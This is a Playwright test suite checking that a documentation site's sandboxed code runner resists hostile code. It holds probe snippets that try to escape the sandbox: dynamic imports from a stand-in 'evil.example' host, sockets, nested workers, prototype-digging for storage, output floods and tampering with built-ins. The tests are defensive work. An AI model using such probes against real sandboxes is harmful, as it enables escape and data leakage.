import { demo } from '../sandbox/mock-server';
import { frozenMs, longestInputDelay } from './containment/longestInputDelay';
import { watchTheNetwork } from './containment/watchTheNetwork';
import { expect, test as runnerTest, type RunnerPage } from './runnerPage';

/**
 * The site's fixture fails a test on any failed request. Here a request the runner's policy
 * blocked (Chromium reports it as failed with `csp`) is the behaviour under test, so that one
 * reason is allowed; every other console error, page error, failed request or HTTP error still
 * fails the test.
 */
const test = runnerTest.extend({
  // An override runs only if it says `auto` again (Playwright's runtime), which its types do not
  // list for overrides: hence the cast.
  failOnConsoleErrors: [
    async ({ page }, use) => {
      const problems: string[] = [];
      page.on('console', (message) => {
        if (message.type() === 'error') problems.push(`console.error: ${message.text()}`);
      });
      page.on('pageerror', (error) => problems.push(`uncaught: ${error.message}`));
      page.on('requestfailed', (request) => {
        const reason = request.failure()?.errorText;
        if (reason !== 'csp') problems.push(`request failed: ${request.url()} (${reason})`);
      });
      page.on('response', (response) => {
        if (response.status() >= 400) problems.push(`HTTP ${response.status()}: ${response.url()}`);
      });
      await use();
      expect(problems, 'the page logged errors or had failed requests').toEqual([]);
    },
    { auto: true, scope: 'test' } as { scope: 'test' },
  ],
});

/**
 * Hostile code typed into the editor, in real Chromium against the built site: what a reader sees
 * in the Output, that the page stays responsive, and that nothing leaves for another host.
 */

const fetchToken = { page: '/docs/client-credentials', id: 'client-credentials/fetch-token' };
const authorizationCode = {
  page: '/docs/authorization-code',
  id: 'authorization-code/exchange-code',
};

async function open(
  site: { goto(path: string): Promise<void> },
  runnerFor: (id: string) => RunnerPage,
  where: { page: string; id: string },
): Promise<RunnerPage> {
  await site.goto(where.page);
  const runner = runnerFor(where.id);
  await runner.chooseTypeScript();
  return runner;
}

/** Tries each named attempt; prints `name: open` or `name: closed (why)`. */
const probe = `
async function probe(attempts: [string, () => unknown][]) {
  for (const [name, attempt] of attempts) {
    try {
      await attempt();
      console.log(\`\${name}: open\`);
    } catch (error) {
      console.log(\`\${name}: closed\`);
    }
  }
}
/**
 * A member as the browser defined it, the way hostile code digs for it: from the prototypes first
 * (where WorkerNavigator.prototype keeps the real \`storage\` getter, whatever the instance says),
 * then the object itself.
 */
function dig(object: object, name: string): any {
  for (let current: any = Object.getPrototypeOf(object); current; current = Object.getPrototypeOf(current)) {
    const own = Object.getOwnPropertyDescriptor(current, name);
    if (own) return own.get ? own.get.call(object) : own.value;
  }
  return (object as any)[name];
}
`;

test.describe('the runner against hostile code', () => {
  test.describe.configure({ timeout: 90_000 });

  test('no request leaves the page: dynamic import in eval, FontFace, importScripts and sockets are closed', async ({
    site,
    runnerFor,
    context,
  }) => {
    const network = await watchTheNetwork(context);
    try {
      const runner = await open(site, runnerFor, fetchToken);
      const target = network.target;
      await runner.replaceCode(`${probe}
await probe([
  ['import() hidden in eval', () => (0, eval)("import('http://${target}/eval.js')")],
  ['import() hidden in new Function', () => new Function("return import('http://${target}/function.js')")()],
  ['import() of another host', () => (0, eval)("import('https://evil.example/module.js')")],
  ['FontFace', () => new FontFace('x', 'url(http://${target}/font.woff)').load()],
  ['self.fonts', () => (self as any).fonts.size],
  ['importScripts on a prototype', () => dig(self, 'importScripts').call(self, 'http://${target}/script.js')],
  ['WebSocket', () => new WebSocket('ws://${target}/socket')],
  ['EventSource', () => new EventSource('http://${target}/events')],
  ['XMLHttpRequest', () => new XMLHttpRequest()],
  ['RTCPeerConnection', () => new RTCPeerConnection()],
  ['nested Worker', () => new Worker('data:text/javascript,fetch("http://${target}/nested")')],
]);
console.log(\`reached: \${Boolean((globalThis as any).reached)}\`);`);
      await runner.run();
      expect(await runner.waitForEnd()).toMatch(/^Finished/);
      expect(await runner.consoleLines()).toEqual([
        'import() hidden in eval: closed',
        'import() hidden in new Function: closed',
        'import() of another host: closed',
        'FontFace: closed',
        'self.fonts: closed',
        'importScripts on a prototype: closed',
        'WebSocket: closed',
        'EventSource: closed',
        'XMLHttpRequest: closed',
        'RTCPeerConnection: closed',
        'nested Worker: closed',
        'reached: false',
      ]);
      // Give a late request time to show up before declaring there was none.
      await runner.page.waitForTimeout(500);
      expect(network.hits, 'requests that reached the loopback target').toEqual([]);
      expect(network.leaked(), 'requests that left for another host').toEqual([]);
      // The dynamic imports got past every check in the worker's own code: the browser's policy
      // (sandboxedWorker.ts) is what refused them.
      expect(network.refused).toEqual(
        expect.arrayContaining([
          `http://${target}/eval.js`,
          `http://${target}/function.js`,
          'https://evil.example/module.js',
        ]),
      );
    } finally {
      await network.close();
    }
  });

  test("the origin's storage is out of reach, through prototypes too, and nothing survives a run", async ({
    site,
    runnerFor,
    page,
  }) => {
    const runner = await open(site, runnerFor, fetchToken);
    await runner.replaceCode(`${probe}
await probe([
  ['OPFS through the prototype', async () => {
    const root = await dig(navigator, 'storage').getDirectory();
    await root.getFileHandle('left-behind.txt', { create: true });
  }],
  ['StorageManager.prototype', () => StorageManager.prototype.getDirectory.call(navigator.storage)],
  ['Web Locks through the prototype', () => dig(navigator, 'locks').request('held', () => new Promise(() => {}))],
  ['IndexedDB through the prototype', () => dig(self, 'indexedDB').open('left-behind')],
  ['Cache API', () => dig(self, 'caches').open('left-behind')],
  ['BroadcastChannel', () => new BroadcastChannel('runs').postMessage('hello')],
]);`);
    const expected = [
      'OPFS through the prototype: closed',
      'StorageManager.prototype: closed',
      'Web Locks through the prototype: closed',
      'IndexedDB through the prototype: closed',
      'Cache API: closed',
      'BroadcastChannel: closed',
    ];
    for (let run = 1; run <= 2; run++) {
      await runner.run();
      expect(await runner.waitForEnd()).toMatch(/^Finished/);
      expect(await runner.consoleLines(), `run ${run}`).toEqual(expected);
    }
    // And the site's own storage holds nothing a run left.
    const siteStorage = await page.evaluate(async () => {
      const names: string[] = [];
      const root = await navigator.storage.getDirectory();
      for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys())
        names.push(name);
      const databases = (await indexedDB.databases()).map((database) => database.name ?? '');
      const locks = await navigator.locks.query();
      return { files: names, databases, held: (locks.held ?? []).map((lock) => lock.name) };
    });
    expect(siteStorage).toEqual({ files: [], databases: [], held: [] });
  });

  test('a two-million-character error and unbounded output do not freeze the page; the Output shows them cut', async ({
    site,
    runnerFor,
  }) => {
    const runner = await open(site, runnerFor, fetchToken);
    await runner.replaceCode(`console.group('deep');
console.group('deeper');
console.log('y'.repeat(5_000_000));
console.log('line\\n'.repeat(100_000));
console.groupEnd();
console.groupEnd();
throw new Error('x'.repeat(2_000_000));`);
    await runner.run();
    const delay = await longestInputDelay(runner.page, async () => {
      await runner.waitForEnd(30_000);
      await runner.page.waitForTimeout(500);
    });
    expect(delay.answered, 'keys the page answered during the run').toBeGreaterThan(0);
    expect(delay.longestMs, 'the longest a key waited for the page (ms)').toBeLessThan(frozenMs);
    const status = (await runner.status.textContent()) ?? '';
    expect(status).toMatch(/^Failed after .*: Error on line 7: x+… \([\d,]+ more characters\)$/);
    expect(status.length).toBeLessThanOrEqual(500);
    const lines = runner.console.locator('[data-level]');
    await expect(lines).toHaveCount(5);
    for (const text of await lines.allInnerTexts()) {
      expect(text.length).toBeLessThanOrEqual(20_000);
    }
    await expect(lines.nth(2)).toContainText('more characters)');
    await expect(lines.nth(4)).toContainText(/^Uncaught Error: x+… \([\d,]+ more characters\)/);
    // Stop and Run still answer.
    await runner.replaceCode("console.log('after');");
    await runner.run();
    expect(await runner.waitForEnd()).toMatch(/^Finished/);
    expect(await runner.consoleLines()).toEqual(['after']);
  });

  test('code that tampers with built-ins cannot crash or hang the page', async ({
    site,
    runnerFor,
  }) => {
    const runner = await open(site, runnerFor, fetchToken);
    await runner.replaceCode(`console.log('before');
Array.prototype.push = function () { return 0; } as any;
Object.defineProperty(Object.prototype, 'text', { get: () => ({ evil: true }), set() {}, configurable: true });
Object.defineProperty(Object.prototype, 'events', { get: () => 'not a list', set() {}, configurable: true });
JSON.stringify = () => '"hijacked"';
String.prototype.slice = function () { return 'hijacked'; };
console.log('after '.repeat(10_000));
throw new Error('tampered');`);
    await runner.run();
    // The worker's own posting layer captured what it needs before the code ran: the reader
    // sees every line and the error, as if nothing had been tampered with.
    expect(await runner.waitForEnd(30_000)).toMatch(/^Failed after .*: Error on line 8: tampered$/);
    const lines = runner.console.locator('[data-level]');
    await expect(lines).toHaveCount(3);
    await expect(lines.nth(0)).toHaveText('before');
    await expect(lines.nth(1)).toHaveText(/^(after ){3000}.*… \([\d,]+ more characters\)$/);
    await expect(lines.nth(2)).toHaveText('Uncaught Error: tampered (line 8)');
    // The page still works: the next run is a fresh worker with untouched built-ins.
    await runner.replaceCode("console.log([1, 2].map(String).join(', '));");
    await runner.run();
    expect(await runner.waitForEnd()).toMatch(/^Finished/);
    expect(await runner.consoleLines()).toEqual(['1, 2']);
  });

  test('an ill-shaped message from the worker ends the run with a clear error, and the page goes on', async ({
    site,
    runnerFor,
    page,
  }) => {
    // Stands in for a worker that no longer follows the protocol (one the reader's code took
    // over): the next `events` message the page receives carries a number where text belongs.
    await page.addInitScript(() => {
      const dispatch = EventTarget.prototype.dispatchEvent;
      EventTarget.prototype.dispatchEvent = function (event: Event) {
        const data = (event as MessageEvent).data as { type?: string } | undefined;
        const flags = globalThis as unknown as { corruptNextEvents?: boolean };
        if (event.type === 'message' && data?.type === 'events' && flags.corruptNextEvents) {
          flags.corruptNextEvents = false;
          const corrupt = { type: 'events', events: [{ kind: 'console', level: 'log', text: 42 }] };
          return dispatch.call(this, new MessageEvent('message', { data: corrupt }));
        }
        return dispatch.call(this, event);
      };
    });
    const runner = await open(site, runnerFor, fetchToken);
    await runner.replaceCode(
      "console.log('one');\nawait new Promise((resolve) => setTimeout(resolve, 200));\nconsole.log('two');",
    );
    await page.evaluate(() => {
      (globalThis as unknown as { corruptNextEvents: boolean }).corruptNextEvents = true;
    });
    await runner.run();
    expect(await runner.waitForEnd()).toBe(
      'The runner stopped unexpectedly: the runner sent a message the page refuses (events[0].text is a number, not text), so the run was ended. Press Run to try again.',
    );
    await runner.run();
    expect(await runner.waitForEnd()).toMatch(/^Finished/);
    expect(await runner.consoleLines()).toEqual(['one', 'two']);
  });

  test('one consent screen at a time: a second request fails clearly, and the time limit still ends the run', async ({
    site,
    runnerFor,
  }) => {
    const runner = await open(site, runnerFor, authorizationCode);
    await runner.replaceCode(`import { Client, OAuthScopeEnum } from 'sdk';
import { browser } from 'sandbox';

const client = new Client({
  authorizationCodeAuthCredentials: {
    oAuthClientId: '${demo.clientId}',
    oAuthClientSecret: '${demo.clientSecret}',
    oAuthRedirectUri: '${demo.redirectUri}',
    oAuthScopes: [OAuthScopeEnum.ReadScope],
  },
});
const manager = client.authorizationCodeAuthManager!;
const pending = [1, 2, 3].map((n) => browser.authorize(manager.buildAuthorizationUrl(\`s\${n}\`)));
const results = await Promise.allSettled(pending);
for (const result of results) {
  console.log(result.status === 'fulfilled' ? \`approved \${result.value.searchParams.get('state')}\` : \`\${result.reason.name}: \${result.reason.message}\`);
}
await new Promise(() => {});`);
    await runner.run();
    const consent = runner.output.getByRole('group', { name: /^Authorize / });
    await expect(consent).toBeVisible();
    await runner.button('Approve').click();
    await expect(runner.console).toContainText(/approved s\d/);
    const lines = await runner.consoleLines();
    expect(
      lines.filter((line) => line.startsWith('ConsentPendingError: Another consent screen')),
    ).toHaveLength(2);
    await expect(consent).toBeHidden();
    // The limit was paused for the consent screen only: the hang after it is stopped.
    expect(await runner.waitForEnd(40_000)).toMatch(/^Stopped after 15 s: the run took too long/);
  });
});
